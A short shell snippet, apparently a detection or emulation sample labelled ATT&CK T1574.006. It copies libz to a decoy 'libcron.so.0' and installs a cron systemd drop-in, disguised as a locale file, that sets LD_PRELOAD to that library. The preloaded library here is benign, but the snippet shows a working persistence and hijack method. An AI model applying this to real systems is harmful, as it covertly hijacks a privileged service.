# technique: T1574.006
# location: linux.systemd.drop-in
# source: /etc/systemd/system/cron.service.d/10-locale.conf
cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/lib/x86_64-linux-gnu/libcron.so.0
install -D -m 644 /dev/stdin /etc/systemd/system/cron.service.d/10-locale.conf <<< '[Service]
Environment=LANG=C.UTF-8 "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libcron.so.0"'
